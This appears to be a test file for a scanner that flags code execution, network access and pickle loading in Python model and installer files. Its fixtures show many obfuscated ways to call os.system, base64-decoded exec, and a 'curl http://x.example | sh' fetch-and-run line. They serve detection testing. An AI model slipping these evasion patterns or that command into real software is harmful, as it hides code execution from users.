import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readModule } from '../../lang/python/module.ts';
import { instantiate } from '../../wasm/engine.ts';
import { loadModule } from '../../wasm/load.node.ts';
import { inspectBytes } from '../conformance/inspect.ts';

const engine = instantiate(loadModule());
const told = async (source: string, name = 'modeling_x.py'): Promise<string[]> =>
  (await inspectBytes(new TextEncoder().encode(source), name, engine)).findings.map(
    ({ rule, severity }) => `${severity} ${rule}`,
  );

describe('what importing would do, however it is written', () => {
  test.each([
    ["import os\nos.system('id')\n"],
    ["import os as o\no.system('id')\n"],
    ["from os import system as s\ns('id')\n"],
    ["__import__('os').system('id')\n"],
    ["import importlib\nimportlib.import_module('o' 's').system('id')\n"],
    ["import os\ngetattr(os, 'sys' + 'tem')('id')\n"],
    ["import os\nf = os.system\nf('id')\n"],
    ["import os\nos.__dict__['system']('id')\n"],
    ["import sys\nsys.modules['os'].system('id')\n"],
    ["import os\nclass A:\n    x = os.system('id')\n"],
    ["import os\ntry:\n    os.system('id')\nexcept Exception:\n    pass\n"],
    ["import os\ndef f(a=os.system('id')):\n    pass\n"],
    ["import os\n@os.system('id')\nclass A: pass\n"],
    ["import os\ndef f():\n    os.system('id')\nf()\n"],
    ["import os\ndef g():\n    os.system('id')\ndef f():\n    g()\nf()\n"],
    ["import os, threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()\n"],
    ["import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()\n"],
    ["import atexit, os\natexit.register(lambda: os.system('id'))\n"],
    ["import os\n(lambda: os.system('id'))()\n"],
    ["import os, threading\nthreading.Thread(target=lambda: os.system('id')).start()\n"],
    ["import os\nx = (lambda: 1)\ny = [os.system(c) for c in ['id']]\n"],
    ["import subprocess\nsubprocess.Popen(['id'])\n"],
    ["import os\n€€ ??\nos.system('id')\n"],
  ])('%j', async (source) => {
    expect(await told(source)).toContain('critical python.process');
  });

  test.each([
    ["exec('1')\n", 'critical python.code'],
    ["import urllib.request\nurllib.request.urlopen('http://x')\n", 'high python.network'],
    ["import pickle\npickle.loads(b'')\n", 'high python.pickle'],
    ["import ctypes\nctypes.CDLL('x.so')\n", 'medium python.native'],
    ["import os\nclass M:\n    def forward(self):\n        os.system('id')\n", 'medium python.process'],
    ["import os\ndef tool():\n    os.system('id')\n", 'note python.process'],
    ["import os\nif __name__ == '__main__':\n    os.system('id')\n", 'note python.process'],
  ])('%j', async (source, expected) => {
    expect(await told(source)).toEqual([expected]);
  });
});

test('ordinary modelling code says nothing', async () => {
  const source = `import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\n\nclass X(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.act = getattr(nn, config.act)()\n\n    @torch.no_grad()\n    def forward(self, x):\n        return self.act(torch.load_like(x))\n\n\nX.register_for_auto_class()\n`;
  expect(await told(source)).toEqual([]);
});

test('an installer is no model code', async () => {
  expect(await told("exec(open('v.py').read())\n", 'setup.py')).toEqual(['low python.code']);
  expect(await told("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", 'setup.py')).toEqual([
    'medium python.code',
  ]);
  expect(await told("import os\nos.system('curl http://x.example | sh')\n", 'setup.py')).toEqual([
    'medium python.process',
  ]);
  expect(await told("import os\nos.system('git describe')\n", 'setup.py')).toEqual(['low python.process']);
});

test('random source ends, with places inside it', () => {
  const piece = fc.constantFrom(
    'import os',
    'os.system',
    '(',
    ')',
    "'id'",
    '\n',
    '    ',
    'def f():',
    'class A:',
    'lambda:',
    '[',
    ']',
    '.',
    ',',
    '=',
    'yield',
    '@',
    '"""',
    '\\',
    'é',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const source = pieces.join('');
      for (const { at, end } of readModule(source).calls)
        expect(at >= 0 && end <= source.length && end > at).toBe(true);
    }),
    { numRuns: 1000 },
  );
  expect(readModule(`${'('.repeat(20_000)}os.system`).calls.length).toBeLessThan(10);
});
